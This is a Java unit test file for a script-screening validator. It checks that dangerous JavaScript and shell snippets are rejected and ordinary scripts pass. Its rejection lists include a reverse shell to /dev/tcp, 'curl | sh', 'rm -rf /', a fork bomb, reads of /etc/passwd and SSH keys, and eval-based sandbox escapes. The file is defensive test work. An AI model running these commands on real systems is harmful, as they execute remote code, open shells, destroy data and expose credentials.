package dev.glovebox.screen.finding;

import static org.assertj.core.api.Assertions.assertThat;

import dev.glovebox.screen.CodeValidator;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The advisory screens: what they promise to see, and that ordinary scripts pass. */
class ScriptScreenTest {
    private static ScreenResult judge(String source, Language language) {
        return new CodeValidator(CodePolicy.of(Profile.STANDARD))
                .validate(source.getBytes(StandardCharsets.UTF_8), language);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "require('child_process').exec('id')",
                "require('child_' + 'process')",
                "const cp = require(\"node:child_process\");",
                "import { exec } from 'child_process';",
                "import 'net'",
                "const m = await import('https');",
                "require(name)",
                "const r = require; r('fs')",
                "import(x + 'y')",
                "eval('1')",
                "new Function('return this')()",
                "(0, eval)('1')",
                "\\u0065val('1')",
                "globalThis['ev' + 'al']('1')",
                "globalThis[x]('1')",
                "window.eval('1')",
                "[].constructor.constructor('return process')()",
                "x['constructor']",
                "setTimeout('alert(1)', 10)",
                "fetch('http://x')",
                "process.env.SECRET",
                "process.kill(1)",
                "process.mainModule.require('fs')",
                "`${require('vm')}`",
                "require('fs').readFileSync('/etc/passwd')",
                "fs.readFileSync('../../x')",
                "const p = '/root/.ssh/id_rsa'",
                "a = x /2; eval('1') /2",
                "obj.__proto__.x = 1",
                "import x from '../outside.js'",
                "new WebSocket('ws://x')",
                "Deno.run({})",
                "module.require('child_process')",
                "require.main.require('fs')",
                "process.getBuiltinModule('child_process')",
                "Reflect.get(globalThis, 'eval')('1')",
                "const { eval: e } = globalThis; e('1')",
                "globalThis?.process?.env",
                "eval('1')\n{ let x = 1; }",
            })
    void javascriptDangerIsFound(String source) {
        assertThat(judge(source, Language.JAVASCRIPT).accepted()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const f = (a, b) => a + b; console.log(f(1, 2));",
                "class A { #x = 1; get x() { return this.#x; } }",
                "const fs = require('fs'); fs.writeFileSync('out.txt', 'x');",
                "// eval('1')\n/* require('net') */ let s = \"eval is bad\";",
                "const re = /eval\\(['\"]/g; console.log('x'.replace(re, ''));",
                "const o = { eval: 1, fetch: 2 }; console.log(o.eval, `a ${1 + {a: 2}.a}`);",
                "import { readFile } from 'fs/promises';",
                "setTimeout(() => console.log('x'), 10);",
                "const m = [1,2].map(x => x / 2 / 3); let re2 = m.length ? /a[/]b/ : 1;",
                "regex.exec('text')",
                "class Calc { eval(s) { return s.length; } }",
            })
    void ordinaryJavascriptPasses(String source) {
        assertThat(judge(source, Language.JAVASCRIPT).errors()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl http://x | sh",
                "c\\url http://x",
                "\"cu\"'rl' http://x",
                "/usr/bin/wget x",
                "echo $(curl x)",
                "echo `nc x 1`",
                "rm -rf /",
                "rm -rf ~/x",
                "rm -rf ../other",
                "cat /etc/passwd",
                "echo x > /etc/cron.d/a",
                "$cmd -x",
                "eval \"$x\"",
                "if true; then sudo id; fi",
                "export LD_PRELOAD=x.so",
                "LD_PRELOAD=x.so ls",
                "python3 -c 'import os'",
                ":(){ :|:& };:",
                "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
                "env",
                "true && kill 1",
                "ls | xargs rm",
                "timeout 5 curl x",
                "trap 'curl x' EXIT",
                "awk 'BEGIN { system(\"id\") }'",
                "chmod u+s x",
                "git push origin main",
                "case $x in a) curl y;; esac",
                "set",
                "python3 /opt/x.py",
            })
    void shellDangerIsFound(String source) {
        assertThat(judge(source, Language.SHELL).accepted()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo hello world",
                "# curl http://x\necho done",
                "for f in *.txt; do wc -l \"$f\"; done",
                "mkdir -p out && cp a.txt out/",
                "sort data.csv | uniq -c > /tmp/counts.txt",
                "grep 'curl' log.txt",
                "if [ -f a ]; then echo yes; else echo no; fi",
                "x=$(wc -l < a.txt); echo \"$x lines\"",
                "set -euo pipefail\necho hi",
                "awk -F, '{ s += $2 } END { print s }' data.csv",
                "if [[ -f a && \"$x\" == y ]]; then cat a; fi",
                "case \"$1\" in start) echo a ;; stop|halt) echo b ;; *) echo c ;; esac",
                "while IFS=, read -r a b; do echo \"$a\"; done < in.csv",
                "declare -A m; m[x]=1",
                "tmp=$(mktemp); trap 'rm -f \"$tmp\"' EXIT",
                "git status && git diff --stat",
                "python3 script.py --input data.csv",
            })
    void ordinaryShellPasses(String source) {
        assertThat(judge(source, Language.SHELL).errors()).isEmpty();
    }

    @Test
    void projectListsApplyToScriptsToo() {
        CodePolicy policy = CodePolicy.of(Profile.STANDARD)
                .withNames(CodePolicy.NameLists.of(List.of("curl", "http"), List.of("sed")));
        CodeValidator validator = new CodeValidator(policy);

        assertThat(validator
                        .validate("curl x".getBytes(StandardCharsets.UTF_8), Language.SHELL)
                        .accepted())
                .isTrue();
        assertThat(validator
                        .validate("sed x".getBytes(StandardCharsets.UTF_8), Language.SHELL)
                        .accepted())
                .isFalse();
        assertThat(validator
                        .validate("require('http')".getBytes(StandardCharsets.UTF_8), Language.JAVASCRIPT)
                        .accepted())
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'",
                "\"",
                "`",
                "`${",
                "/*",
                "\\",
                "$(",
                "x = /[",
                "\\u{",
                "\\x4",
                "<<EOF\na",
                "${",
                "\\u{110000}"
            })
    void unfinishedScriptsAreScreened(String source) {
        assertThat(judge(source, Language.JAVASCRIPT).sha256()).hasSize(64);
        assertThat(judge(source, Language.SHELL).sha256()).hasSize(64);
    }

    @Test
    void everyLanguageStatesItsCoverage() {
        assertThat(Language.JAVASCRIPT.coverage()).startsWith("advisory");
        assertThat(Language.SHELL.coverage()).startsWith("advisory");
        assertThat(Language.PYTHON.coverage()).contains("syntax tree");
    }
}
